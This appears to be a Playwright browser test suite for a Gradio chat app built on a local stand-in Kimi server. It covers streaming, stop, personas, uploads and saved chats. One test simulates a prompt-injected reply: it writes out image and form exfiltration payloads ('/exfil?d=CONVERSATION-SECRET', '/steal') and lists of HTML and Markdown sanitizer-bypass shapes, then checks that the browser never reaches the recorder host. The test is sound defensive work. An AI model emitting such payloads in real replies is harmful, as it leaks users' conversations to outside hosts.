"""The UI in headless Chromium (Debian's), as a visitor uses it, against the local Kimi server.

Screenshots land in test-output/ (gitignored); every test fails on a JavaScript error.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import yaml
from conftest import KEY, NO_RATE_LIMITS, PERSONAS, PNG, ROOT, RunningApp, ask_async, launch_app, serving, wait_for
from kimi_server import free_port, reply_tokens, serve_in_thread
from playwright.sync_api import Browser, Page, expect, sync_playwright
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

OUT = ROOT / "test-output"
CHROMIUM = "/usr/bin/chromium"
BOT = '#chatbot [data-testid="bot"]'
USER = '#chatbot [data-testid="user"]'
SAVED = '[role="grid"]'  # ChatInterface's list of saved chats
pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    OUT.mkdir(exist_ok=True)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        )
        yield browser
        browser.close()


@pytest.fixture
def open_page(browser, app, upstream) -> Iterator:
    """open_page(locale=..., width=..., height=...) -> a loaded page; JS errors fail the test."""
    errors: list[str] = []
    tolerated: list[str] = []  # console errors a test expects (the browser reporting a blocked load)
    contexts = []

    def record_console(message) -> None:
        if message.type == "error":
            errors.append(message.text)

    def record_error(error) -> None:
        errors.append(str(error))

    def open_(
        locale: str = "en-US",
        width: int = 1280,
        height: int = 900,
        after: Page | None = None,
        url: str = "",
        tolerate: tuple[str, ...] = (),
        on_request=None,
    ) -> Page:
        """A new page (of the app at ``url``, else the suite's app); ``after`` closes that page and
        opens its browser profile again; console errors containing a ``tolerate`` text are expected."""
        tolerated.extend(tolerate)
        if after is None:
            context = browser.new_context(
                locale=locale, viewport={"width": width, "height": height}, accept_downloads=True
            )
            contexts.append(context)
        else:
            context = after.context
            after.remove_listener("console", record_console)  # closing aborts its open streams
            after.remove_listener("pageerror", record_error)
            after.close()
        page = context.new_page()
        if on_request:
            page.on("request", on_request)
        page.on("console", record_console)
        page.on("pageerror", record_error)
        page.goto(url or app.url)
        lang = "zh" if locale.startswith("zh") else "en"  # the load event sets the visitor's language
        expect(page.locator("#persona-card")).to_contain_text(PERSONAS.first.name.get(lang), timeout=30_000)
        return page

    yield open_
    for context in contexts:
        context.close()
    unexpected = [e for e in errors if not any(t in e for t in tolerated)]
    assert unexpected == [], f"JavaScript errors: {unexpected}"


def send(page: Page, text: str) -> None:
    box = page.locator("#message textarea")
    box.fill(text)
    box.press("Enter")


def last_bot_text(page: Page) -> str:
    bots = page.locator(BOT)
    return bots.nth(bots.count() - 1).inner_text() if bots.count() else ""


def wait_idle(page: Page) -> None:
    """The chat is ready for the next message (the stop button is gone)."""
    expect(page.locator("#message .stop-button")).to_have_count(0, timeout=30_000)
    expect(page.locator("#message .submit-button")).to_be_visible(timeout=30_000)


def chat(page: Page, upstream, text: str) -> None:
    """Send ``text`` and wait until its reply has fully arrived on the page."""
    send(page, text)
    assert wait_for(lambda: any(c.last_user == text and c.completed for c in upstream.calls), 30)
    wait_idle(page)


def test_reply_grows_while_streaming_then_completes(open_page, upstream):
    upstream.token_delay = 0.12
    page = open_page()
    send(page, "grow please")
    seen: list[str] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        text = last_bot_text(page)
        if "grow please" in text and (not seen or text != seen[-1]):
            seen.append(text)
        if text.endswith("t7"):
            break
        time.sleep(0.05)
    assert len(seen) >= 4, seen  # at least three distinct states before the complete one
    assert seen[-1].endswith("t7")
    wait_idle(page)


def test_the_message_shows_at_once_while_the_reply_is_awaited(open_page, upstream):
    upstream.fail_next = ["[[first:6]]"]  # Kimi (or the queue) is slow to start this reply
    page = open_page()
    send(page, "are you there")
    expect(page.locator(USER)).to_contain_text("are you there")
    assert not any(c.completed for c in upstream.calls)  # on screen before any of the reply came
    expect(page.locator(BOT)).to_have_count(0)
    expect(page.locator("#message textarea")).to_have_value("")
    expect(page.locator("#message .stop-button")).to_be_visible()
    assert wait_for(lambda: any(c.last_user == "are you there" and c.completed for c in upstream.calls), 15)
    wait_idle(page)
    expect(page.locator(USER)).to_have_count(1)  # shown once, not again by the reply


def test_switching_persona_resets_chat_and_prompt(open_page, upstream):
    page = open_page()
    chat(page, upstream, "remember me")
    page.locator("#persona-picker input").click()
    page.get_by_role("option", name="Translator (zh ⇄ en)").click()
    translator = PERSONAS.by_id["translator"]
    expect(page.locator(BOT)).to_have_count(0)
    expect(page.locator(USER)).to_have_count(0)
    expect(page.locator("#chatbot")).to_contain_text(translator.greeting.en)
    expect(page.locator("#persona-card")).to_contain_text(translator.description.en)
    chat(page, upstream, "bonjour")
    assert upstream.calls[-1].system == translator.prompt("en")
    assert "remember me" not in str(upstream.calls[-1].body["messages"])


def starter(page: Page, label: str):
    """One of the empty chat's conversation starters (ChatInterface's examples)."""
    return page.locator("#chatbot button.example").filter(has_text=label)


def test_greeting_and_starters_show_and_a_starter_sends(open_page, upstream):
    page = open_page()
    expect(page.locator("#chatbot")).to_contain_text(PERSONAS.first.greeting.en)
    example = PERSONAS.first.examples[1]
    starter(page, example.label.en).click()
    assert wait_for(lambda: upstream.calls and upstream.calls[-1].last_user == example.text.en)
    wait_idle(page)


def test_stop_halts_and_the_chat_goes_on_then_retry_and_clear(open_page, upstream):
    page = open_page()
    send(page, "stop me [[tokens:200]] [[delay:0.1]]")
    assert wait_for(lambda: "t3" in last_bot_text(page), 20)
    page.locator("#message .stop-button").click()
    assert wait_for(lambda: upstream.calls[-1].disconnected, 10), "upstream stream was not closed"
    wait_idle(page)
    halted = last_bot_text(page)
    assert "t3" in halted and "t199" not in halted
    # Gradio's cancel may label the chat "Error" now and then (gradio#11586, open): the chat goes on all the same
    chat(page, upstream, "after the stop")
    expect(page.locator(BOT).last).to_contain_text("Echo: after the stop")
    stopped_reply = page.locator(BOT).first.inner_text()  # a whole exchange later: nothing was added to it
    assert stopped_reply.strip() == halted.strip()

    calls = len(upstream.calls)
    page.locator("#chatbot").get_by_role("button", name="Retry").last.click()
    assert wait_for(lambda: len(upstream.calls) == calls + 1 and upstream.calls[-1].completed, 10)
    assert upstream.calls[-1].last_user == "after the stop"
    wait_idle(page)

    page.locator("#chatbot").get_by_role("button", name="Clear").click()
    expect(page.locator(USER)).to_have_count(0)
    expect(page.locator(BOT)).to_have_count(0)


def stop_and_check_the_chat_goes_on(page: Page, upstream) -> None:
    """Press stop now: the upstream request ends, the box comes back, and the next message is answered."""
    page.locator("#message .stop-button").click()
    wait_idle(page)
    send(page, "and now?")  # an unanswered question and the next one go to Kimi as one turn
    assert wait_for(lambda: any(c.last_user.endswith("and now?") and c.completed for c in upstream.calls), 30)
    expect(page.locator(BOT).last).to_contain_text("and now?")


def test_stop_while_waiting_for_the_first_token_closes_the_upstream(open_page, upstream):
    page = open_page()
    upstream.fail_next = ["[[first:20]]"]  # this request only
    send(page, "slow start")
    assert wait_for(lambda: upstream.open_streams == 1, 10)  # Kimi has the request, nothing streamed yet
    stop_and_check_the_chat_goes_on(page, upstream)
    assert upstream.calls[0].disconnected and not upstream.calls[0].completed


def test_stop_while_a_document_is_read_deletes_the_uploaded_file(open_page, upstream, tmp_path):
    notes = tmp_path / "long.txt"
    notes.write_text("A document Moonshot takes its time to read.", encoding="utf-8")
    upstream.extract_delay = 20
    page = open_page()
    page.locator("#message input[type=file]").set_input_files(str(notes))
    expect(page.locator('#message [aria-label="File thumbnail"]')).to_be_visible(timeout=10_000)
    send(page, "read this")
    expect(page.locator("#chatbot")).to_contain_text("Reading long.txt", timeout=10_000)
    assert wait_for(lambda: len(upstream.files) == 1, 10)  # uploaded, now being extracted
    upstream.extract_delay = 0
    stop_and_check_the_chat_goes_on(page, upstream)
    assert wait_for(lambda: set(upstream.deleted) == set(upstream.files), 10), "the uploaded file stayed"
    assert not any(c.last_user == "read this" for c in upstream.calls)  # nothing was asked of Kimi


@pytest.fixture(scope="module")
def one_slot_app(kimi, tmp_path_factory) -> Iterator[RunningApp]:
    """An app allowed one upstream stream at a time: a second visitor waits for the slot."""
    with serving(kimi, tmp_path_factory.mktemp("one-slot"), UPSTREAM_CONCURRENCY="1", **NO_RATE_LIMITS) as running:
        yield running


def test_stop_while_waiting_for_an_upstream_slot_sends_nothing(open_page, one_slot_app, upstream):
    holder = ask_async(one_slot_app.client(), "holds the slot [[tokens:40]] [[delay:0.1]]")
    assert wait_for(lambda: upstream.open_streams == 1, 15)
    page = open_page(url=one_slot_app.url)
    send(page, "waits its turn")
    expect(page.locator("#chatbot")).to_contain_text("slot frees up", timeout=10_000)
    page.locator("#message .stop-button").click()
    wait_idle(page)
    holder.result(timeout=30)  # the slot frees up: the stopped message must not take it
    chat(page, upstream, "and now?")
    assert not any("waits its turn" in c.last_user for c in upstream.calls)


def test_the_bot_avatar_follows_the_persona_and_new_chat_keeps_the_saved_one(open_page, upstream):
    page = open_page()
    chat(page, upstream, "first chat")
    expect(page.locator("#chatbot img").last).to_have_attribute("src", re.compile(r"researcher\.svg"))
    page.locator("#persona-picker input").click()
    page.get_by_role("option", name="Translator (zh ⇄ en)").click()
    expect(page.locator(BOT)).to_have_count(0)
    chat(page, upstream, "second chat")
    expect(page.locator("#chatbot img").last).to_have_attribute("src", re.compile(r"translator\.svg"))
    page.get_by_role("button", name="New chat").click()
    expect(page.locator(USER)).to_have_count(0)
    expect(page.locator("#chatbot")).to_contain_text(PERSONAS.by_id["translator"].greeting.en)
    chat(page, upstream, "third chat")
    saved = page.locator(SAVED)
    for text in ("first chat", "second chat", "third chat"):  # a new chat never overwrites the one before
        expect(saved).to_contain_text(text)


# Every way Markdown or HTML in a reply could make the browser fetch from another host by itself.
REACHING_OUT = (
    '<img src="{host}/img">',
    '<iframe src="{host}/iframe"></iframe>',
    '<video src="{host}/video" poster="{host}/poster" autoplay></video>',
    '<audio src="{host}/audio" autoplay></audio>',
    '<link rel="stylesheet" href="{host}/css">',
    '<div style="background-image:url({host}/bg)">bg</div>',
    '<object data="{host}/object"></object>',
    '<embed src="{host}/embed">',
    '<svg><image href="{host}/svg"/></svg>',
    '<input type="image" src="{host}/input">',
    '<meta http-equiv="refresh" content="0;url={host}/meta">',
    '<picture><source srcset="{host}/srcset"><img src="data:,"></picture>',
)
# Shapes that took the old escaping for code, and more: each on lines of its own, as Kimi writes them.
BYPASSES = (
    'see \\`<audio src="{host}/esc" autoplay></audio>\\` ok',
    "a ~~~ <video src={host}/tilde autoplay></video> ~~~ b",
    "a ``` <audio src={host}/open autoplay> b",
    "<pre>\n\n```\n<audio src={host}/pre autoplay></audio>\n```\n</pre>",
    "> <div>\n> ```\n> <video src={host}/quote autoplay></video>\n> ```",
    "<!-- x --!><audio src={host}/comment autoplay></audio>",
    "<AuDiO src={host}/case autoplay></AuDiO>",
    "<audio\nsrc={host}/lines\nautoplay></audio>",
    "<video/src={host}/slash autoplay></video>",
    "`<style>@import url({host}/import.css);</style>`",
    "<svg><image href={host}/svgimg /></svg>",
    "<math><mtext><iframe src={host}/math></iframe></mtext></math>",
    "<object data={host}/object2></object>",
    "```\nnever closed <audio src={host}/unclosed autoplay></audio>",
)


def test_a_reply_cannot_make_the_browser_call_another_host(open_page, upstream):
    """A reply steered by a prompt injection: an image and a form naming another host (a local
    recorder here) must not reach it, neither at once nor on a click."""
    seen: list[str] = []

    async def record(request: Request) -> Response:
        seen.append(str(request.url))
        return Response("pixel")

    server, port = serve_in_thread(Starlette(routes=[Route("/{path:path}", record, methods=["GET", "POST"])]))
    try:
        page = open_page(tolerate=("Content Security Policy",))
        here = page.url
        chat(
            page,
            upstream,
            f"![pixel](http://127.0.0.1:{port}/exfil?d=CONVERSATION-SECRET) "
            f'<form action="http://127.0.0.1:{port}/steal"><button id="steal">go</button></form>',
        )
        image = page.locator(f'#chatbot img[src*="{port}/exfil"]').last
        expect(image).to_be_attached()  # rendered: the browser was asked to load it
        assert wait_for(lambda: image.evaluate("img => img.complete"), 10)  # and has finished with it
        reply = page.locator(BOT).last
        expect(reply).to_contain_text('<form action="http://127.0.0.1')  # the reply's form shows as text
        expect(reply.locator("form, button#steal")).to_have_count(0)
        host = f"http://127.0.0.1:{port}"  # now Kimi writes them, not the visitor
        upstream.reply_prefix = " ".join(payload.format(host=host) for payload in REACHING_OUT) + " "
        chat(page, upstream, "tell me more")
        expect(page.locator(BOT).last).to_contain_text("<\u200baudio src=")  # shown as text
        assert not wait_for(lambda: seen, 2), seen  # nothing arrives (a fetch would within a moment)
        upstream.reply_prefix = "\n\n".join(shape.format(host=host) for shape in BYPASSES) + "\n\n"
        chat(page, upstream, "and once more")
        expect(page.locator(BOT).last).to_contain_text("Echo: and once more")
        assert not wait_for(lambda: seen, 2), seen
        if page.locator("#chatbot #steal").count():  # the visitor's own message renders their form
            page.evaluate(  # kept on the page, awaited after the click
                "() => { window.blocked = new Promise(done => document.addEventListener("
                "'securitypolicyviolation', (e) => done(e.effectiveDirective), {once: true})); }"
            )
            page.locator("#chatbot #steal").last.click(no_wait_after=True)
            assert page.evaluate("() => window.blocked") == "form-action"  # the browser refused to send it
        assert seen == [] and page.url == here, seen
    finally:
        server.should_exit = True


def test_the_temperature_slider_shows_only_for_models_that_take_one(open_page, upstream):
    page = open_page()
    page.locator("#settings").get_by_text("Settings").first.click()
    slider = page.locator("#temperature")
    expect(slider).to_be_hidden()  # the persona's kimi-k2.6 fixes its sampling
    page.locator("#model-picker input").click()
    # the list the key's /v1/models gives (the local server's), not the built-in table
    expect(page.get_by_role("option", name="moonshot-v1-8k")).to_be_visible()
    expect(page.get_by_role("option", name="kimi-k3")).to_have_count(0)
    page.get_by_role("option", name="kimi-k2-turbo-preview").click()
    expect(slider).to_be_visible()
    page.locator("#model-picker input").click()
    page.get_by_role("option", name="kimi-k2.6", exact=True).click()
    expect(slider).to_be_hidden()


@pytest.mark.parametrize(
    ("locale", "label", "persona_label"), [("zh-CN", "角色", "实验室老猫"), ("en-US", "Persona", "Lab Cat")]
)
def test_ui_follows_browser_language(open_page, locale, label, persona_label):
    page = open_page(locale=locale)
    expect(page.get_by_text(label, exact=True).first).to_be_visible()
    expect(page.locator("#persona-card")).to_contain_text(persona_label)
    lang = "zh" if locale == "zh-CN" else "en"
    expect(page.locator("#chatbot")).to_contain_text(PERSONAS.first.greeting.get(lang)[:10])
    expect(starter(page, PERSONAS.first.examples[0].label.get(lang))).to_be_visible()


def test_phone_viewport_has_no_horizontal_scroll(open_page, upstream):
    page = open_page(width=390, height=844)
    chat(page, upstream, "a long line " + "x" * 300 + " and `code " + "y" * 200 + "`")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    for element in ("#persona-picker", "#chatbot", "#message"):
        box = page.locator(element).bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390, (element, box)
    page.evaluate("window.scrollTo(0, 0)")
    page.screenshot(path=OUT / "phone.png")


def test_conversations_survive_reload_and_restore_their_persona(open_page, upstream):
    page = open_page()
    page.locator("#persona-picker input").click()
    page.get_by_role("option", name="Translator (zh ⇄ en)").click()
    chat(page, upstream, "saved translator chat")
    expect(page.locator(SAVED)).to_contain_text("saved translator chat")
    page = open_page(after=page)
    history = page.locator(SAVED)
    expect(history).to_contain_text("saved translator chat")
    expect(page.locator("#persona-card")).to_contain_text("Lab Cat")  # a fresh page starts with the default
    history.get_by_text("saved translator chat").click()
    expect(page.locator(USER)).to_contain_text("saved translator chat")
    expect(page.locator("#persona-card")).to_contain_text("Translator")
    chat(page, upstream, "follow up")
    shown = page.locator("#chatbot").inner_text()  # the replies' tags (kimichat/tags.py) are never drawn
    assert "persona:" not in shown and "tokens=" not in shown and "Echo: follow up" in shown
    messages = upstream.calls[-1].body["messages"]
    assert messages[0]["content"] == PERSONAS.by_id["translator"].prompt("en")
    assert any(m["content"] == "saved translator chat" for m in messages)


def test_export_downloads_markdown(open_page, upstream, tmp_path):
    page = open_page()
    chat(page, upstream, "export this | a | table |")
    with page.expect_download() as info:
        page.locator("#export").click()
    path = tmp_path / "chat.md"
    info.value.save_as(path)
    text = path.read_text()
    assert "**You:**" in text and "export this" in text and "**Assistant:**" in text


def test_prices_stay_text_and_formulas_render(open_page, upstream):
    page = open_page()
    chat(
        page,
        upstream,
        "Polish: the method costs $5 and $10, the area is $$\\int_0^1 x^2\\,dx$$, "
        "inline \\(a^2\\) and shown \\[b^2\\] too",
    )
    bot = page.locator(BOT).last
    expect(bot).to_contain_text("$5 and $10")
    expect(bot.locator(".katex")).to_have_count(3)  # $$..$$, \(..\) and \[..\]; no single-$ formula
    page.screenshot(path=OUT / "desktop.png")


def attach_and_send(page: Page, upstream, path: Path, text: str) -> None:
    page.locator("#message input[type=file]").set_input_files(str(path))
    expect(page.locator('#message [aria-label="File thumbnail"]')).to_be_visible(timeout=10_000)  # uploaded
    chat(page, upstream, text)


def test_upload_a_document_and_ask_about_it(open_page, upstream, tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("The secret ingredient is KUMQUAT-7.", encoding="utf-8")
    page = open_page()
    attach_and_send(page, upstream, notes, "what is the secret ingredient?")
    expect(page.locator(BOT).last).to_contain_text("[documents:1 images:0]")
    expect(page.locator("#chatbot")).to_contain_text("Read notes.txt")
    assert "KUMQUAT-7" in str(upstream.calls[-1].body["messages"])


def test_send_an_image_to_a_vision_persona(open_page, upstream, tmp_path):
    figure = tmp_path / "figure.png"
    figure.write_bytes(PNG)
    page = open_page()
    page.locator("#persona-picker input").click()
    page.get_by_role("option", name="💬 Kimi", exact=True).click()
    attach_and_send(page, upstream, figure, "what is in this picture?")
    expect(page.locator(BOT).last).to_contain_text("[documents:0 images:1]")
    parts = upstream.calls[-1].body["messages"][-1]["content"]
    assert parts[0]["image_url"]["url"].startswith("data:image/png;base64,")


def test_web_search_persona_shows_it_is_searching(open_page, upstream):
    page = open_page()
    page.locator("#persona-picker input").click()
    page.get_by_role("option", name="Web Scout (searches the web)").click()
    send(page, "gradio news [[first:2]]")
    expect(page.locator("#chatbot")).to_contain_text("Searching the web", timeout=15_000)
    expect(page.locator(BOT).last).to_contain_text("Found: gradio news", timeout=20_000)
    expect(page.locator("#chatbot")).to_contain_text("Searched the web (1×)")
    wait_idle(page)
    assert [c.offers_search for c in upstream.calls] == [True, True]


def test_markdown_tables_and_code_render_with_copy_buttons(open_page, upstream):
    page = open_page()
    chat(page, upstream, "Table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\ndone")
    bot = page.locator(BOT).last
    expect(bot.locator("table").first).to_be_visible()
    expect(bot.locator("pre code").first).to_contain_text("print")
    expect(bot.locator("pre code .token").first).to_be_attached()  # highlighted
    expect(bot.locator("button.copy_code_button").first).to_be_attached()  # each code block has a copy button


def test_errors_show_inline_apart_from_the_answer(open_page, upstream):
    page = open_page()
    send(page, "cut me [[drop:3]]")
    expect(page.locator("#chatbot")).to_contain_text("The reply was cut off", timeout=20_000)
    wait_idle(page)
    bots = page.locator(BOT)
    expect(bots.nth(bots.count() - 2)).to_contain_text("Echo: cut ")  # the partial reply stays
    expect(bots.last).to_contain_text("⚠️ Note")  # the note is its own titled box, after the answer
    expect(bots.last).not_to_contain_text("Echo")


def test_edit_resends_and_undo_takes_back(open_page, upstream):
    page = open_page()
    chat(page, upstream, "first try")
    page.locator(USER).last.hover()
    page.locator("#chatbot").get_by_role("button", name="Edit").last.click()
    editor = page.locator("#chatbot textarea").last
    editor.fill("second try")
    page.locator("#chatbot").get_by_role("button", name="Submit").last.click()
    assert wait_for(lambda: upstream.calls[-1].last_user == "second try" and upstream.calls[-1].completed, 20)
    wait_idle(page)
    expect(page.locator(USER)).to_have_count(1)
    assert "first try" not in str(upstream.calls[-1].body["messages"])
    page.locator("#chatbot").get_by_role("button", name="Undo").last.click()
    expect(page.locator(USER)).to_have_count(0)
    expect(page.locator("#message textarea")).to_have_value("second try")


def test_a_cut_reply_offers_continue_and_the_continuation_joins_it(open_page, upstream):
    """Lab Cat plays in character; the length limit cuts its reply; Continue goes on from the cut text
    (a second turn of the conversation, whose prompt Kimi had cached)."""
    question = "tell me a story [[cut:5]]"
    whole = "".join(reply_tokens(question, upstream.tokens))
    page = open_page()
    chat(page, upstream, question)
    first = upstream.calls[-1].body
    assert first["messages"][-1]["partial"] and first["messages"][-1]["name"] == PERSONAS.first.name.get("en")
    expect(page.locator(BOT).last).to_contain_text("Continue picks it up")
    page.locator("#chatbot").get_by_role("button", name="⏩ Continue").click()
    assert wait_for(lambda: len(upstream.calls) == 2 and upstream.calls[-1].completed, 20)
    wait_idle(page)
    prefix = upstream.calls[-1].body["messages"][-1]
    assert prefix["partial"] and whole.startswith(prefix["content"]) and len(prefix["content"]) > 10
    assert upstream.calls[-1].body["prompt_cache_key"] == first["prompt_cache_key"]
    expect(page.locator(USER).last).to_have_text("⏩ Continue")
    expect(page.locator("#usage")).to_contain_text("of them cached")
    answers = [text for text in page.locator(BOT).all_inner_texts() if "Note" not in text]
    assert len(answers) == 2 and answers[0].startswith("Echo: tell")  # the cut text, then what follows it
    joined, said = re.sub(r"\s", "", "".join(answers)), re.sub(r"\s", "", whole)
    assert len(joined) > len(re.sub(r"\s", "", prefix["content"])) and said.startswith(joined)
    page.screenshot(path=str(OUT / "continue.png"), full_page=True)


def test_the_footer_links_the_mcp_server(open_page):
    page = open_page()
    footer = page.locator("footer")
    expect(footer).to_contain_text("MCP")
    footer.get_by_text("MCP").first.click()
    expect(page.get_by_text("/gradio_api/mcp/").first).to_be_visible()
    expect(page.get_by_text("ask_persona").first).to_be_visible()
    page.screenshot(path=str(OUT / "mcp-page.png"), full_page=True)


def test_saved_chats_survive_restarts_and_a_new_layout(browser, kimi, upstream, tmp_path):
    """A Space restarts on every push, settings change and wake-up, and its layout changes when
    sign-in is turned on. A saved chat is still listed after each, and reopens with its persona;
    one whose persona the new personas.yaml lacks reopens with the default one and says so."""
    from hub_server import TOKEN, HubServer

    hub = HubServer()
    hub_server, hub_port = serve_in_thread(hub.app())
    port = free_port()  # one address throughout: the browser keeps saved chats per origin
    env = {
        **NO_RATE_LIMITS,
        "MOONSHOT_API_KEY": KEY,
        "MOONSHOT_BASE_URL": kimi.base_url,
        "SPACE_ID": "tester/kimi-chat",
        "GRADIO_SERVER_PORT": str(port),
    }
    # Sign-in on, as a Space with hf_oauth has it; off a Space Gradio signs in a stand-in for the
    # machine's own Hugging Face login (the local Hub stand-in here).
    oauth = {"OAUTH_CLIENT_ID": "client", "OAUTH_CLIENT_SECRET": "secret", "HF_TOKEN": TOKEN}
    oauth["HF_ENDPOINT"] = f"http://127.0.0.1:{hub_port}"
    fewer = yaml.safe_load((ROOT / "personas.yaml").read_text(encoding="utf-8"))
    fewer["personas"] = [p for p in fewer["personas"] if p["id"] != "translator"]
    (tmp_path / "fewer.yaml").write_text(yaml.safe_dump(fewer, allow_unicode=True), encoding="utf-8")
    context = browser.new_context(locale="en-US")
    app = launch_app(tmp_path, env)
    try:
        page = context.new_page()
        page.goto(app.url)
        page.locator("#persona-picker input").click()
        page.get_by_role("option", name="Translator (zh ⇄ en)").click()
        chat(page, upstream, "kept across restarts")
        expect(page.locator(SAVED)).to_contain_text("kept across restarts")
        for restarted in ({}, oauth):  # a plain restart, then one with sign-in turned on
            app.stop()
            app = launch_app(tmp_path, {**env, **restarted})
            page.reload()
            if restarted:
                expect(page.locator("#sign-in")).to_be_visible(timeout=30_000)
            history = page.locator(SAVED)
            expect(history).to_contain_text("kept across restarts", timeout=30_000)
            history.get_by_text("kept across restarts").click()
            expect(page.locator(USER)).to_contain_text("kept across restarts")
            expect(page.locator("#persona-card")).to_contain_text("Translator")
        app.stop()
        app = launch_app(tmp_path, {**env, "PERSONAS_PATH": str(tmp_path / "fewer.yaml")})
        page.reload()
        page.locator(SAVED).get_by_text("kept across restarts").click()
        expect(page.locator(USER)).to_contain_text("kept across restarts")
        expect(page.locator("#persona-card")).to_contain_text("Lab Cat")
        expect(page.locator("#usage")).to_contain_text("a persona this Space no longer has")
    finally:
        app.stop()
        context.close()
        hub_server.should_exit = True


@pytest.mark.parametrize(("locale", "asks"), [("en-US", 0), ("zh-CN", 1)])
def test_only_a_page_in_another_language_asks_the_server_for_it(open_page, app, locale, asks):
    """The page is built in English with the key's models: an English page load sends the server
    nothing of ours (Gradio rebuilt a component's config for each one it was sent, per visitor);
    a Chinese one asks once for the page in Chinese."""
    config = httpx.get(app.url + "config").json()
    box = next(c["id"] for c in config["components"] if c["props"].get("elem_id") == "browser-language")
    localize = next(i for i, d in enumerate(config["dependencies"]) if [box, "change"] in d["targets"])
    loads = [  # ChatInterface's own (its saved chats): ours runs in the browser
        i
        for i, d in enumerate(config["dependencies"])
        if d.get("backend_fn") and any(t[1] == "load" for t in d["targets"])
    ]
    calls: list[int] = []

    def record(request) -> None:
        if request.url.endswith("/gradio_api/run/predict"):
            calls.append(json.loads(request.post_data or "{}").get("fn_index"))

    page = open_page(locale=locale, on_request=record)
    # the page's load events have gone out (they go together); Playwright reports requests only
    # while it is called, so the wait polls through it
    deadline = time.monotonic() + 10
    while not set(loads) <= set(calls) and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert set(loads) <= set(calls) and calls.count(localize) == asks


def test_starters_work_whichever_persona_comes_first(browser, kimi, upstream, tmp_path):
    """ChatInterface wires a click on a starter only if it is built with some: a personas.yaml whose
    first persona has none must still have every other persona's starters send their message."""
    quiet = yaml.safe_load((ROOT / "personas.yaml").read_text(encoding="utf-8"))
    first = next(p for p in quiet["personas"] if p["id"] == quiet["default"])
    first.pop("examples", None)
    (tmp_path / "quiet-first.yaml").write_text(yaml.safe_dump(quiet, allow_unicode=True), encoding="utf-8")
    translator = PERSONAS.by_id["translator"].examples[0]
    with serving(kimi, tmp_path, PERSONAS_PATH=str(tmp_path / "quiet-first.yaml"), **NO_RATE_LIMITS) as app:
        context = browser.new_context(locale="en-US")
        try:
            page = context.new_page()
            page.goto(app.url)
            expect(page.locator("#persona-card")).to_contain_text("Lab Cat", timeout=30_000)
            expect(page.locator("#chatbot button.example")).to_have_count(0)  # the first persona has none
            page.locator("#persona-picker input").click()
            page.get_by_role("option", name="Translator (zh ⇄ en)").click()
            starter(page, (translator.label or translator.text).en).click()
            assert wait_for(lambda: any(c.last_user == translator.text.en and c.completed for c in upstream.calls), 30)
        finally:
            context.close()
